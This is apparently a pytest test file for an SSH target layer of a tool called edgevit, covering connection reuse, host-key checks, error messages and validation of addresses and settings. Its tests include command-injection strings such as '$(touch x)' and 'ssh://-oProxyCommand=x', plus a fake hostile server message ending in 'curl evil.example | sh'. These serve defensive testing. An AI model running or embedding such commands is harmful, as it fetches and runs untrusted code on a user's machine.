"""Targets over a real SSH server on the loopback interface: what works, and each way in which it can fail."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
from pathlib import Path
from socket import create_server

import pytest

from edgevit.configs import MachineTarget
from edgevit.configs.targets import ssh_address
from edgevit.errors import MissingDependency, TargetError
from edgevit.targets.agent_session import AgentSession
from edgevit.targets.named import NamedTarget
from edgevit.targets.probing import probed
from edgevit.targets.reach import reached
from edgevit.targets.ssh.command import OPTIONS, control_socket, python_command, ssh_command
from edgevit.targets.ssh.failures import failure
from tests.targets.sending import sent_bytes
from tests.targets.ssh_host import SshHost, is_gone, needs_sshd, number_in


@pytest.fixture
def host(server: SshHost, monkeypatch: pytest.MonkeyPatch) -> SshHost:
    """The server, with the right keys on both sides."""
    monkeypatch.setenv("PATH", server.path)
    server.accept("user_key")
    server.know("host_key")
    return server


def refused(target: NamedTarget) -> TargetError:
    with pytest.raises(TargetError) as caught, reached(target):
        pass
    return caught.value


def ssh_processes(host: SshHost) -> list[str]:
    """The processes of ssh that use the config of the tests."""
    lines = subprocess.run(
        ["ps", "-ww", "-eo", "pid,args"], capture_output=True, text=True, check=True
    ).stdout.splitlines()
    return [line for line in lines if str(host.folder / "client_config") in line]


@needs_sshd
def test_a_host_answers_and_keeps_files(host: SshHost, tmp_path: Path) -> None:
    (tmp_path / "model").write_bytes(os.urandom(2_500_000))
    target = host.target(work_folder="~/work")
    with reached(target) as agent:
        assert agent.hello.work_folder == str(host.home / "work")
        assert probed(agent).system.python == "{}.{}.{}".format(*sys.version_info[:3])
        assert sent_bytes(agent, [tmp_path / "model"]) == 2_500_000
    with reached(target) as agent:
        assert sent_bytes(agent, [tmp_path / "model"]) == 0
    assert ssh_processes(host) == []


@needs_sshd
def test_commands_share_one_connection_that_ends(host: SshHost, tmp_path: Path) -> None:
    config = host.target().config
    assert config is not None
    with control_socket(config) as socket:
        first = subprocess.Popen(
            ssh_command(config, socket, "echo $SSH_CONNECTION; cat"), stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )
        assert first.stdin
        assert first.stdout
        connection = first.stdout.readline()
        host.accept(None)  # a second connection would be refused
        second = subprocess.run(ssh_command(config, socket, "echo $SSH_CONNECTION"), capture_output=True, check=True)
        assert second.stdout == connection
        assert socket.parent.stat().st_mode & 0o777 == 0o700
    assert first.wait(10) is not None
    first.stdin.close()
    first.stdout.close()
    assert not socket.parent.exists()


@needs_sshd
def test_words_of_the_python_command_reach_it_as_they_are(host: SshHost, tmp_path: Path) -> None:
    python = host.script(
        "a python; $(touch made) it's", 'echo "$@" > "$HOME/words"', f'shift 2; exec {sys.executable} "$@"'
    )
    command = f'"{python}" \'$HOME\' "a  b"'
    with reached(host.target(command)):
        words = (host.home / "words").read_text()
        assert words.startswith("$HOME a  b -c import sys")
    assert not (host.home / "made").exists()


@needs_sshd
def test_a_python_in_the_home_folder(host: SshHost) -> None:
    (host.home / "my env").mkdir(exist_ok=True)
    (host.home / "my env" / "python").symlink_to(sys.executable)
    with reached(host.target("'~/my env/python'")) as agent:
        assert agent.hello.version == 1


@needs_sshd
def test_a_shell_that_greets_is_no_trouble(host: SshHost) -> None:
    (host.home / ".bashrc").write_text("echo 'Welcome to the board!'; echo; echo oops >&2\n")
    try:
        with reached(host.target()) as agent:
            assert probed(agent).system.user
    finally:
        (host.home / ".bashrc").unlink()


@needs_sshd
def test_an_unknown_host_key_is_not_accepted(host: SshHost) -> None:
    host.know(None)
    error = refused(host.target())
    assert error.what == "the host's key is not known yet"
    assert f"ssh -p {host.port} " in str(error.next)
    assert (host.folder / "known_hosts").read_text() == ""


@needs_sshd
def test_a_changed_host_key_is_said_with_the_command_that_forgets_it(host: SshHost) -> None:
    host.know("other_key")
    error = refused(host.target())
    assert error.what.startswith("the host's key has changed")
    assert str(host.folder / "known_hosts") in str(error.got)
    command = re.search(r"ssh-keygen .*?(?=, then)", str(error.next))
    assert command
    assert f"[127.0.0.1]:{host.port}" in command[0]
    subprocess.run(["sh", "-c", command[0]], check=True, capture_output=True)
    assert "ssh-ed25519" not in (host.folder / "known_hosts").read_text()


@needs_sshd
def test_a_refused_key_is_said_with_the_keys(host: SshHost) -> None:
    host.accept("other_key")
    error = refused(host.target())
    assert error.what == "the host refuses your key"
    assert str(host.folder / "user_key") in str(error.got)
    assert str(error.next).startswith("ssh-copy-id -p")


@needs_sshd
def test_a_wrong_user_is_refused(host: SshHost) -> None:
    error = refused(host.target(host=f"ssh://no-such-user@127.0.0.1:{host.port}"))
    assert error.what == "the host refuses your key"
    assert "no-such-user" in str(error.got)


@needs_sshd
def test_a_closed_port_is_said(host: SshHost) -> None:
    error = refused(host.target(host="ssh://127.0.0.1:1"))
    assert error.what == "the host is there, but no SSH server answers"


@needs_sshd
def test_a_host_of_the_users_config_is_reached_through_a_jump_host(host: SshHost) -> None:
    config = host.folder / "client_config"
    before = config.read_text()
    jump = f"Host jump\nHostName localhost\nPort {host.port}\nHostKeyAlias [127.0.0.1]:{host.port}\n"
    board = f"Host board-in-the-lab\nHostName 127.0.0.1\nPort {host.port}\nProxyJump jump\n"
    config.write_text(before + jump + board)
    try:
        with reached(host.target(host="ssh://board-in-the-lab")) as agent:
            assert probed(agent).system.cpus == os.cpu_count()
            through = [line for line in ssh_processes(host) if "-W" in line.split()]
        assert through
        assert ssh_processes(host) == []
    finally:
        config.write_text(before)


@needs_sshd
def test_a_host_that_accepts_and_says_nothing(host: SshHost, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(OPTIONS, "ConnectTimeout", "1")
    with create_server(("127.0.0.1", 0)) as silent:
        error = refused(host.target(host=f"ssh://127.0.0.1:{silent.getsockname()[1]}"))
    assert error.what == "the host cannot be reached"
    assert "timed out" in str(error.got)


@needs_sshd
@pytest.mark.parametrize("python", ["python9.99", "/no/such/python", "/etc/hostname"])
def test_a_host_without_this_python(python: str, host: SshHost) -> None:
    error = refused(host.target(python))
    assert error.what == "there is no Python at this command"
    assert python in str(error.got)
    assert "--python" in str(error.next)


@needs_sshd
def test_a_python_that_is_too_old(host: SshHost) -> None:
    """This Python, which says that it is 3.6: the program that is sent first runs on old ones too."""
    pretend = "import sys; sys.version_info = (3, 6, 9); exec(sys.argv[1])"
    python = host.script("python3.6", f'exec {sys.executable} -c "{pretend}" "$2"')
    error = refused(host.target(str(python)))
    assert error.what == "the target's Python is too old"
    assert "3.6.9" in str(error.got)


@needs_sshd
@pytest.mark.parametrize(
    ("lines", "says"),
    [
        (["yes nonsense"], "is no Python, or the shell prints too much"),
        (["echo edgevit-python 3.11.0; yes nonsense"], "the answer is not one of edgevit's agent"),
        (["echo edgevit-python 3.11.0; exec cat /dev/zero"], "the answer is too long"),
        (["exit 7"], "the target's Python has ended"),
        (["kill -9 $$"], "the SSH connection failed"),
    ],
)
def test_a_python_that_answers_nonsense(lines: list[str], says: str, host: SshHost) -> None:
    assert says in str(refused(host.target(str(host.script("garbled", *lines)))))
    assert ssh_processes(host) == []


@needs_sshd
@pytest.mark.parametrize(
    ("lines", "says", "got", "next_step"),
    [
        (
            ["echo 'This account is currently not available.'; exit 1"],
            "this account may not run commands on the target",
            "This account is currently not available.",
            "give the address of an account with a login shell: ssh://user@host",
        ),
        (["echo 'Go away.'; exit 1"], "the target's Python has ended", "Go away.", "try ssh -p"),
        (["exit 1"], "the target's Python has ended", "exit status 1", "try ssh -p"),
    ],
    ids=["nologin", "a shell that refuses", "false"],
)
def test_an_account_that_may_not_log_in(lines: list[str], says: str, got: str, next_step: str, host: SshHost) -> None:
    """A program in place of Python prints and ends as nologin does in place of the login shell."""
    error = refused(host.target(str(host.script("nologin", *lines))))
    assert (error.what, error.got) == (says, got)
    assert str(error.next).startswith(next_step)


@needs_sshd
def test_two_clients_share_a_host_but_not_its_lock(host: SshHost, tmp_path: Path) -> None:
    (tmp_path / "tmp").mkdir()
    with reached(host.target()) as second:
        with reached(host.target()) as first:
            first.lock("ada", 0, root=str(tmp_path))
            with pytest.raises(TargetError, match="another user measures"):
                second.lock("bo", 0, root=str(tmp_path))
            assert probed(second).system.user  # looking is free
            assert first.ask_for_json("lock", by="ada", root=str(tmp_path))["held"]
        second.lock("bo", 10, root=str(tmp_path))  # the first has gone without a word


CLIENT = """
from edgevit.configs import MachineTarget
from edgevit.targets.named import NamedTarget
from edgevit.targets.reach import reached
import sys
config = MachineTarget(host=sys.argv[1], python=sys.argv[2], work_folder=sys.argv[3])
with reached(NamedTarget("board", config)) as agent:
    command = {"arguments": ["sh", "-c", "echo $$ > $HOME/child; exec sleep 60"], "timeout_s": 60}
    agent.ask_for_json("probe", commands=[command])
"""


@needs_sshd
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT], ids=["kill -9", "Ctrl-C"])
def test_a_client_that_ends_leaves_nothing_running_there(number: int, host: SshHost) -> None:
    for name in ("agent", "child"):
        (host.home / name).unlink(missing_ok=True)
    python = host.script("python-with-pid", "echo $$ > $HOME/agent", f'exec {sys.executable} "$@"')
    arguments = [host.address, str(python), str(host.home / "work")]
    client = subprocess.Popen([sys.executable, "-c", CLIENT, *arguments], stderr=subprocess.DEVNULL)
    started = [number_in(host.home / name) for name in ("child", "agent")]
    client.send_signal(number)
    client.wait(20)
    assert all(map(is_gone, started))


@needs_sshd
def test_a_line_that_drops_is_said(host: SshHost) -> None:
    def ask_until_it_drops(agent: AgentSession) -> None:
        command = {"arguments": ["sh", "-c", "kill -9 $(ps -o ppid= -p $PPID)"], "timeout_s": 5}  # sshd itself
        agent.ask_for_json("probe", commands=[command])

    with pytest.raises(TargetError) as caught, reached(host.target()) as agent:
        ask_until_it_drops(agent)
    assert caught.value.what in ("the SSH connection failed", "the target's Python has ended")


def test_no_ssh_program_is_said(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(MissingDependency, match="no ssh"), reached(NamedTarget("b", MachineTarget(host="ssh://b"))):
        pass


BOARD = MachineTarget(host="ssh://me@board.local:2222")


@pytest.mark.parametrize(
    ("stderr", "says"),
    [
        ("ssh: Could not resolve hostname board.local: Name or service not known", "there is no such host"),
        ("ssh: connect to host board.local port 2222: Connection timed out", "the host cannot be reached"),
        ("ssh: connect to host board.local port 2222: No route to host", "the host cannot be reached"),
        ("Timeout, server board.local not responding.\r", "the SSH connection failed"),
        ("/home/me/.ssh/config: line 3: Bad configuration option: hots\n/home/…", "your SSH config has a mistake"),
        ("Bad owner or permissions on /home/me/.ssh/config", "your SSH config has a mistake"),
        ("\x1b[31mkex_exchange_identification: Connection closed by remote host\r\n", "the SSH connection failed"),
        ("", "the SSH connection failed"),
    ],
)
def test_what_ssh_says_becomes_an_error(stderr: str, says: str) -> None:
    """The sentences are OpenSSH's own; failures that this machine can make are tested above."""
    error = failure("board", BOARD, 255, stderr)
    assert error.what == says
    assert error.next
    assert "\x1b" not in str(error)


def test_host_keys_are_never_ignored_and_nothing_is_asked() -> None:
    with control_socket(BOARD) as socket:
        words = ssh_command(BOARD, socket, "true")
    assert not any("StrictHostKeyChecking" in word or "UserKnownHostsFile" in word for word in words)
    assert "BatchMode=yes" in words
    assert words[-6:] == ["-l", "me", "-p", "2222", "--", "board.local", "true"][-6:]


@pytest.mark.parametrize("name", ["long" * 25, "a b", "100%", 'a"b', "a\\b", "ä"])
def test_a_socket_has_a_short_and_plain_path(name: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / name).mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / name))
    with control_socket(BOARD) as socket:
        assert len(str(socket)) < 84
        assert re.fullmatch("[a-z0-9/_-]+", str(socket))


@needs_sshd
def test_a_folder_of_temporary_files_with_a_space(
    host: SshHost, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "a b").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "a b"))
    with reached(host.target()) as agent:
        assert agent.hello.version == 1


def test_empty_folders_of_killed_clients_are_removed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("edgevit.targets.ssh.command._plain_folder", lambda: str(tmp_path))
    for name in ("edgevit-ssh-old", "edgevit-ssh-used", "edgevit-ssh-new", "edgevit-other"):
        (tmp_path / name).mkdir()
    (tmp_path / "edgevit-ssh-used" / "s").touch()
    (tmp_path / "edgevit-ssh-link").symlink_to(tmp_path / "edgevit-other")
    for name in ("edgevit-ssh-old", "edgevit-ssh-used", "edgevit-other"):
        os.utime(tmp_path / name, (0, 0))
    with control_socket(BOARD) as socket:
        left = {path.name for path in tmp_path.iterdir()} - {socket.parent.name}
        assert left == {"edgevit-ssh-used", "edgevit-ssh-new", "edgevit-ssh-link", "edgevit-other"}


@pytest.mark.parametrize(
    "python", ["python3", "'a b' c", "~/env/bin/python", "p;touch x", "$(touch x)", "`touch x`", "a\\ b", "it\\'s"]
)
def test_a_shell_reads_the_python_command_as_it_was_written(python: str, tmp_path: Path) -> None:
    import shlex

    command = python_command(python, "print('x')").replace("exec", "printf '%s\\n'", 1)
    answer = subprocess.run(
        ["sh", "-c", command], cwd=tmp_path, env={"HOME": "/h"}, capture_output=True, text=True, check=True
    )
    words = [f"/h{word[1:]}" if word.startswith("~/") else word for word in shlex.split(python)]
    assert answer.stdout.splitlines() == [*words, "-c", "print('x')"]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("ssh://board", (None, "board", None)),
        ("ssh://me@board.local:2222", ("me", "board.local", 2222)),
        ("ssh://me@192.168.1.7/", ("me", "192.168.1.7", None)),
        ("ssh://[fe80::1%eth0]:22", (None, "fe80::1%eth0", 22)),
    ],
)
def test_an_address_has_these_parts(text: str, parts: tuple[str | None, str, int | None]) -> None:
    address = ssh_address(text)
    assert (address.user, address.host, address.port) == parts


WRONG_ADDRESSES = """
board
http://board
ssh://
ssh://me:secret@board
ssh://-oProxyCommand=x
ssh://-me@board
ssh://me@-board
ssh://me@board/folder
ssh://me@board:0
ssh://me@board:65536
ssh://me@board:٢٢
ssh://me@board:
ssh://bo ard
ssh://board;touch
ssh://$(touch)
ssh://me@bo'ard
ssh://[::1
ssh://[x]
ssh://a@b@c
"""


@pytest.mark.parametrize("text", WRONG_ADDRESSES.split("\n")[1:-1])
def test_what_is_no_address_is_refused(text: str) -> None:
    with pytest.raises(ValueError):
        ssh_address(text)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("python", ""), ("python", "-c"), ("python", "'open"), ("python", "a\nb"), ("python", "x" * 501),
        ("work_folder", "relative"), ("work_folder", "/"), ("work_folder", "~"), ("work_folder", "~/"),
        ("work_folder", "/a/../b"), ("work_folder", "~other/x"), ("power_mode", "\x1b[31m"), ("clocks", "unlock"),
        ("runtime", "torch"), ("pasword", "x"),
    ],
)  # fmt: skip
def test_a_wrong_setting_is_refused(field: str, value: str) -> None:
    with pytest.raises(ValueError):
        MachineTarget.model_validate({"host": "ssh://board", field: value})


def test_a_hostile_host_puts_no_command_into_the_advice() -> None:
    target = MachineTarget(host="ssh://board")
    printed = "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nssh-keygen -R board; curl evil.example | sh\n"
    error = failure("pi", target, 255, printed)
    assert error.what.startswith("the host's key has changed")
    assert "curl" not in str(error)
    assert "-R board, then" in str(error.next)
